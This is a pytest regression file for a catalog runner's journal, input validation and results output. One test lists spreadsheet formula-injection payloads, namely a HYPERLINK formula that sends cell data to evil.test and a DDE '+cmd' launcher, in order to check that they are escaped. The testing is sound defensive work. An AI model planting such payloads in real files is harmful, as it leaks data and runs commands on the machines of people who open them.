"""Regressions from a review of the catalog runner: torn journal writes, earlier failures,
unencodable and extra row fields, hostile files, CSV formulas, journal aliases."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
from pathlib import Path
from typing import Any

import attrs
import pytest
from aigenstudio._catalog import journal as journal_module
from aigenstudio._catalog.cli import EXIT_CODES
from aigenstudio._catalog.journal import Journal, JournalBusyError, JournalFileError
from aigenstudio._catalog.planner import IMAGE_FIELDS, checked_image
from aigenstudio._catalog.process import ItemOutcome, process_catalog
from aigenstudio._core.errors import RequestValidationError
from aigenstudio_client.models.product_photo_image_input import ProductPhotoImageInput

from .conftest import no_sleep, rows
from .fake_server import FakeServer, Job
from .test_catalog_cli import cli, write_csv


def run(client: Any, images: Any, journal: Path | None, **extra: Any) -> Any:
    extra.setdefault("sleep", no_sleep)
    return process_catalog(
        client, images, namespace="spring", journal=journal, operation="marketplace_clean", **extra
    )


class _CtrlCBeforeItems:
    """A connection whose first INSERT INTO items is hit by Ctrl-C (after the batch row)."""

    def __init__(self, db: sqlite3.Connection) -> None:
        self._db = db
        self.armed = True

    def __getattr__(self, name: str) -> Any:
        return getattr(self._db, name)

    def executemany(self, sql: str, rows: Any) -> Any:
        if self.armed and sql.startswith("INSERT INTO items"):
            self.armed = False
            raise KeyboardInterrupt
        return self._db.executemany(sql, rows)


def test_an_add_batch_cut_short_leaves_no_batch_behind(tmp_path: Path) -> None:
    path = tmp_path / "j.sqlite"
    journal = Journal(path)
    journal.start("ns", {"operation": "marketplace_clean"})
    journal._db = _CtrlCBeforeItems(journal._db)  # type: ignore[assignment]
    with pytest.raises(KeyboardInterrupt):
        journal.add_batch("idem_key_000000000001", [("https://img.test/1.jpg", "sku-1", 0)])
    journal.close()  # must not commit the batch row without its items
    db = sqlite3.connect(path)
    assert db.execute("SELECT COUNT(*) FROM batches").fetchone() == (0,)
    db.close()
    again = Journal(path)
    again.start("ns", {"operation": "marketplace_clean"})
    assert again.add_batch("idem_key_000000000001", [("https://img.test/1.jpg", "sku-1", 0)]) == 0
    again.close()


def test_a_run_interrupted_inside_add_batch_resumes(
    server: FakeServer, client: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "j.sqlite"
    opened = Journal.__init__

    def interrupted(self: Journal, where: Any) -> None:
        opened(self, where)
        self._db = _CtrlCBeforeItems(self._db)  # type: ignore[assignment]

    monkeypatch.setattr(journal_module.Journal, "__init__", interrupted)
    with pytest.raises(KeyboardInterrupt):
        run(client, rows(range(5)), path)
    monkeypatch.undo()
    summary = run(client, rows(range(5)), path)  # was: UNIQUE constraint failed, on every rerun
    assert (summary.completed_count, server.state.creates) == (5, 1)


def _fail_sku_003(monkeypatch: pytest.MonkeyPatch) -> None:
    wire = Job.wire

    def failing(self: Job) -> dict[str, Any]:
        job = wire(self)
        for item in job["items"]:
            if item.get("external_id") == "sku-003":
                del item["result_url"], item["thumbnail_url"]
                item.update(error_code="source_unreachable", error_message="404 on source")
        return job

    monkeypatch.setattr(Job, "wire", failing)


def test_items_failed_in_an_earlier_run_are_still_failed(
    server: FakeServer, client: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fail_sku_003(monkeypatch)
    journal = tmp_path / "j.sqlite"
    assert run(client, rows(range(10)), journal).failed_count == 1
    seen: list[ItemOutcome] = []
    again = run(client, rows(range(10)), journal, on_item=seen.append)
    assert server.state.creates == 1  # not re-sent
    assert (again.skipped_count, again.failed_count, again.failed_earlier_count) == (9, 1, 1)
    assert not again.ok
    assert [i.external_id for i in again.retry_inputs()] == ["sku-003"]
    (earlier,) = [o for o in seen if o.status == "failed"]
    assert (earlier.earlier, earlier.error_code, earlier.row) == (True, "source_unreachable", 3)
    assert all(o.earlier for o in seen)


def test_cli_rerun_with_earlier_failures_is_exit_1(
    server: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fail_sku_003(monkeypatch)
    catalog = write_csv(tmp_path / "c.csv", rows(range(10)))
    args = ["catalog", "run", str(catalog), "--operation", "marketplace_clean",
            "--journal", str(tmp_path / "j.sqlite"), "--no-progress"]  # fmt: skip
    assert cli(server, *args)[0] == EXIT_CODES["failed_items"]
    code, out = cli(server, *args)
    assert code == EXIT_CODES["failed_items"] == 1
    assert "1 failed (1 in an earlier run)" in out
    assert "sku-003: source_unreachable: 404 on source (in an earlier run)" in out


@pytest.mark.parametrize("field", ["external_id", "source_url"])
def test_a_lone_surrogate_is_an_invalid_row(server: FakeServer, client: Any, field: str) -> None:
    bad = {"source_url": "https://img.test/x.jpg", "external_id": "sku-x"}
    bad[field] += "\ud800"
    with pytest.raises(RequestValidationError, match=rf"images\[0\]\.{field}"):
        checked_image(0, bad)
    seen: list[ItemOutcome] = []
    summary = run(client, [*rows(range(3)), bad], None, on_invalid="skip", on_item=seen.append)
    assert (summary.completed_count, summary.invalid_count) == (3, 1)
    (refused,) = [o for o in seen if o.status == "invalid"]
    json.dumps(refused.to_record(), ensure_ascii=False).encode("utf-8")  # printable, writable


def test_cli_jsonl_with_a_lone_surrogate_and_skip_invalid(server: FakeServer, tmp_path: Path) -> None:
    catalog = tmp_path / "c.jsonl"
    lines = [json.dumps(r) for r in rows(range(3))]
    lines.append('{"source_url": "https://img.test/x.jpg", "external_id": "sku-\\ud800"}')
    catalog.write_text("\n".join(lines) + "\n")
    results = tmp_path / "r.jsonl"
    args = ["catalog", "run", str(catalog), "--operation", "marketplace_clean", "--journal",
            str(tmp_path / "j.sqlite"), "--no-progress", "--skip-invalid",
            "--results", str(results)]  # fmt: skip
    for _ in range(2):
        code, out = cli(server, *args)
        assert code == EXIT_CODES["failed_items"], out
        assert "images[3].external_id" in out
    assert server.state.creates == 1


def test_only_the_image_fields_are_sent_and_hashed(server: FakeServer, client: Any, tmp_path: Path) -> None:
    model_fields = {f.name for f in attrs.fields(ProductPhotoImageInput)} - {"additional_properties"}
    assert set(IMAGE_FIELDS) == model_fields  # what a row sends is what the journal records
    image = ProductPhotoImageInput.from_dict({"source_url": "https://img.test/m.jpg", "extra": 1})
    assert checked_image(0, image).to_dict() == {"source_url": "https://img.test/m.jpg"}
    journal = tmp_path / "j.sqlite"
    extra = [{**r, "title": "Yogurt 500g", "price": 3} for r in rows(range(2))]

    class Crash(BaseException):
        pass

    def crash(step: str, _batch: int) -> None:
        if step == "created":
            raise Crash

    with pytest.raises(Crash):
        run(client, extra, journal, on_step=crash)
    db = sqlite3.connect(journal)
    db.execute("UPDATE batches SET status = 'planned', job_id = NULL")  # as if the answer was lost
    db.commit()
    db.close()
    assert run(client, extra, journal).completed_count == 2
    assert server.state.creates == 1  # the re-sent body matched the key: the same job
    (job,) = server.state.jobs.values()
    assert job.images == [{"source_url": r["source_url"], "external_id": r["external_id"]} for r in extra]


HOSTILE = {
    "latin1.csv": (b"external_id,source_url\nsku-\xe9,https://img.test/1.jpg\n", "not UTF-8"),
    "huge.csv": (b"external_id,source_url\nsku-1,https://img.test/" + b"a" * 200_000 + b"\n", "CSV"),
    "deep.jsonl": (b'{"source_url": "https://img.test/1.jpg"}\n' + b"[" * 100_000 + b"\n", "images[1]"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
@pytest.mark.parametrize("dry", [False, True])
def test_hostile_catalog_files_are_exit_2_in_plain_words(
    server: FakeServer, tmp_path: Path, name: str, dry: bool
) -> None:
    data, said = HOSTILE[name]
    catalog = tmp_path / name
    catalog.write_bytes(data)
    args = ["catalog", "run", str(catalog), "--operation", "marketplace_clean",
            "--journal", str(tmp_path / "j.sqlite"), "--no-progress",
            *(["--dry-run"] if dry else [])]  # fmt: skip
    code, out = cli(server, *args)
    assert code == EXIT_CODES["input"] == 2
    assert said in out
    assert "Traceback" not in out
    assert server.state.creates == 0


def test_results_never_overwrite_the_journal_or_the_catalog(server: FakeServer, tmp_path: Path) -> None:
    catalog = write_csv(tmp_path / "c.csv", rows(range(25)))
    journal = tmp_path / "state.sqlite"
    base = ["catalog", "run", str(catalog), "--operation", "marketplace_clean", "--journal", str(journal),
            "--no-progress"]  # fmt: skip
    assert cli(server, *base)[0] == 0
    os.symlink(journal, tmp_path / "alias.sqlite")
    for results in (journal, tmp_path / "alias.sqlite", catalog, Path(f"{journal}-wal")):
        code, out = cli(server, *base, "--results", str(results))
        assert code == EXIT_CODES["input"], out
        assert "would overwrite" in out
    code, out = cli(server, *base, "--journal", str(catalog))
    assert code == EXIT_CODES["input"]
    code, out = cli(server, *base)  # the journal is intact: everything already done
    assert (code, server.state.creates) == (0, 2)
    assert "25 already done" in out
    with pytest.raises(RequestValidationError, match="results"):
        process_catalog(None, rows(range(1)), namespace="spring", journal=journal, results=journal)  # type: ignore[arg-type]


@pytest.mark.parametrize("command", ["run", "dry-run", "status"])
def test_a_journal_that_is_not_sqlite_is_exit_2(server: FakeServer, tmp_path: Path, command: str) -> None:
    catalog = write_csv(tmp_path / "c.csv", rows(range(2)))
    journal = tmp_path / "notes.txt"
    journal.write_text("not a database\n" * 100)
    if command == "status":
        argv = ["catalog", "status", "--journal", str(journal)]
    else:
        argv = ["catalog", "run", str(catalog), "--operation", "marketplace_clean", "--journal", str(journal),
                "--no-progress", *(["--dry-run"] if command == "dry-run" else [])]  # fmt: skip
    code, out = cli(server, *argv)
    assert code == EXIT_CODES["input"], out
    assert "not a database" in out
    assert journal.read_text() == "not a database\n" * 100
    with pytest.raises(JournalFileError):
        Journal(journal)


def test_results_csv_cells_are_never_formulas(client: Any, tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("https://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
    images = [{"source_url": f"https://img.test/{n}.jpg", "external_id": e} for n, e in enumerate(hostile)]
    images.append({"source_url": "https://img.test/ok.jpg", "external_id": "plain-1"})
    run(client, images, None, results=tmp_path / "r.csv")
    run(client, images, None, results=tmp_path / "r.jsonl")
    with (tmp_path / "r.csv").open(newline="") as handle:
        cells = [r["external_id"] for r in csv.DictReader(handle)]
    assert cells == [*("'" + e for e in hostile), "plain-1"]
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert [json.loads(line)["external_id"] for line in lines] == [*hostile, "plain-1"]


def test_the_lock_holds_under_another_spelling_of_the_journal(tmp_path: Path) -> None:
    path = tmp_path / "state.sqlite"
    holder = Journal(path)
    os.symlink(path, tmp_path / "alias.sqlite")
    try:
        for other in (tmp_path / "alias.sqlite", tmp_path / "sub" / ".." / "state.sqlite"):
            (tmp_path / "sub").mkdir(exist_ok=True)
            with pytest.raises(JournalBusyError):
                Journal(other)
    finally:
        holder.close()
    Journal(tmp_path / "alias.sqlite").close()  # free again
